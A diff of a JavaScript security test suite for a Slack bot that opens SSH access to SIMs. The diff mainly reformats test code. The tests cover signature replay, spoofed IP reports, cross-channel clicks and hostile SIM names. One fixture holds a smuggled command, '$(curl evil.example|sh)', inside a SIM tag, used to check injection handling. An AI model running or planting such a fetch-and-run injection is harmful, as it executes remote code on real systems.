@@ -60,10 +60,7 @@ it('one signed request with a null body does not stop the bot: it is refused and
 it('a correctly signed request dated in the future is refused: it could be replayed for as long as it is dated ahead', async () => {
   const body = commandBody('open demo-healthy ssh from 203.0.113.90');
   for (const minutesAhead of [6, 60]) {
-    const answer = await postSigned(rig.bot.eventsUrl, body, {
-      secret: rig.bot.signingSecret,
-      timestampSec: Math.floor(Date.now() / 1000) + minutesAhead * 60,
-    });
+    const answer = await postSigned(rig.bot.eventsUrl, body, { secret: rig.bot.signingSecret, timestampSec: Math.floor(Date.now() / 1000) + minutesAhead * 60 });
     tally.attempts += 1;
     expect(answer.status).toBe(401);
     tally.refused += 1;
@@ -78,15 +75,11 @@ it('a correctly signed request dated in the future is refused: it could be repla
   expect(mappingsFrom(rig, '203.0.113.90/32')).toBe(0);
 });
 
-it("an address the browser reports never reveals another user's endpoint, now or through `from last`", async () => {
+it('an address the browser reports never reveals another user\'s endpoint, now or through `from last`', async () => {
   // Hanako opens from 198.51.100.41, which the server sees through the trusted proxy.
   const hanako = await sendCommand(rig, 'open demo-healthy ssh', { userId: HANAKO, channelId: OPS });
-  const hanakoLink = await waitFor("Hanako's IP link", () => linkIn(rig, HANAKO));
-  const proven = await fetch(hanakoLink, {
-    method: 'POST',
-    headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': '198.51.100.41' },
-    body: '',
-  });
+  const hanakoLink = await waitFor('Hanako\'s IP link', () => linkIn(rig, HANAKO));
+  const proven = await fetch(hanakoLink, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': '198.51.100.41' }, body: '' });
   expect(proven.status).toBe(200);
   await proven.text();
   tally.answer(hanako, await awaitAnswer(rig, hanako));
@@ -95,7 +88,7 @@ it("an address the browser reports never reveals another user's endpoint, now or
 
   // Alice's browser claims that address; the page saw only 127.0.0.1.
   const alice = await sendCommand(rig, 'open demo-healthy ssh', { userId: ALICE, channelId: OPS });
-  const aliceLink = await waitFor("Alice's IP link", () => linkIn(rig, ALICE));
+  const aliceLink = await waitFor('Alice\'s IP link', () => linkIn(rig, ALICE));
   const claimed = await fetch(aliceLink, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'ip=198.51.100.41' });
   await claimed.text();
   const answer = await awaitAnswer(rig, alice);
@@ -113,35 +106,20 @@ it('hostile SIM names and tags never reach a channel or a reply as mentions, lin
   const { simId } = demoSim(rig, 'demo-firewall');
   rig.sim.world.updateSim(simId, { name: HOSTILE, tags: { name: HOSTILE, ssh_user: 'pi```\n<!channel> $(curl evil.example|sh)' } });
   const target = `${demoSim(rig, HOSTILE).imsi}`;
-  for (const text of [
-    `diagnose ${target}`,
-    `open ${target} ssh from 203.0.113.91`,
-    `list ${target}`,
-    'list',
-    `close ${target}`,
-    `open ${HOSTILE.slice(0, 40)}`,
-  ]) {
+  for (const text of [`diagnose ${target}`, `open ${target} ssh from 203.0.113.91`, `list ${target}`, 'list', `close ${target}`, `open ${HOSTILE.slice(0, 40)}`]) {
     const command = await sendCommand(rig, text, { userId: ALICE, channelId: OPS });
     tally.answer(command, await awaitAnswer(rig, command));
   }
   // The diagnosis thread's buttons: capture and the ticket draft carry the name too.
-  const parent = await waitFor('the diagnosis parent', () =>
-    rig.slack.channelMessages(OPS).find((message) => message.metadata?.event_type === 'napter_diagnosis'),
-  );
+  const parent = await waitFor('the diagnosis parent', () => rig.slack.channelMessages(OPS).find((message) => message.metadata?.event_type === 'napter_diagnosis'));
   const withButtons = parent.replies.find((reply) => buttonsOf(reply.blocks).some((button) => button.actionId === ACTION_IDS.startCapture));
   if (withButtons === undefined) throw new Error('The diagnosis thread has no capture button');
-  await rig
-    .driver()
-    .clickButton({ userId: ALICE, message: { ts: withButtons.ts, channelId: OPS, blocks: withButtons.blocks }, actionId: ACTION_IDS.startCapture });
-  await waitFor('the capture progress', () =>
-    rig.slack.channelMessages(OPS).some((message) => message.replies.some((reply) => reply.text.includes('Packet capture'))),
-  );
+  await rig.driver().clickButton({ userId: ALICE, message: { ts: withButtons.ts, channelId: OPS, blocks: withButtons.blocks }, actionId: ACTION_IDS.startCapture });
+  await waitFor('the capture progress', () => rig.slack.channelMessages(OPS).some((message) => message.replies.some((reply) => reply.text.includes('Packet capture'))));
 
   const everything = [
     ...rig.slack.workspace.channels.flatMap((channel) =>
-      rig.slack
-        .channelMessages(channel.id)
-        .flatMap((message) => [message, ...message.replies, ...message.previousVersions.map((version) => ({ ...message, ...version }))]),
+      rig.slack.channelMessages(channel.id).flatMap((message) => [message, ...message.replies, ...message.previousVersions.map((version) => ({ ...message, ...version }))]),
     ),
     ...rig.slack.ephemerals({ includeDeleted: true }),
   ];
@@ -172,9 +150,7 @@ it('a click naming a diagnosis of another channel is refused', async () => {
   });
   tally.attempts += 1;
   expect(click.status).toBe(200);
-  await waitFor('the refusal', () =>
-    rig.slack.ephemerals({ userId: 'U0ADMIN', channelId: 'C0RANDOM' }).some((message) => message.text.includes('does not work')),
-  );
+  await waitFor('the refusal', () => rig.slack.ephemerals({ userId: 'U0ADMIN', channelId: 'C0RANDOM' }).some((message) => message.text.includes('does not work')));
   tally.refused += 1;
   expect(rig.slack.openedViews.length).toBe(viewsBefore);
 });
@@ -193,11 +169,7 @@ it('debug logs never print an endpoint, and text from outside cannot forge a log
   const open = await sendCommand(rig, 'open demo-healthy ssh', { userId: ALICE, channelId: OPS });
   const link = await waitFor('the IP link', () => linkIn(rig, ALICE));
   rig.slack.faults.failNext('response_url', 'expired_url', 5);
-  const confirm = await fetch(link, {
-    method: 'POST',
-    headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': '203.0.113.93' },
-    body: '',
-  });
+  const confirm = await fetch(link, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': '203.0.113.93' }, body: '' });
   await confirm.text();
   tally.answer(open, await awaitAnswer(rig, open));
   const endpoints = rig.sim.world.state.mappings.filter((mapping) => mapping.sourceIpRanges.includes('203.0.113.93/32'));
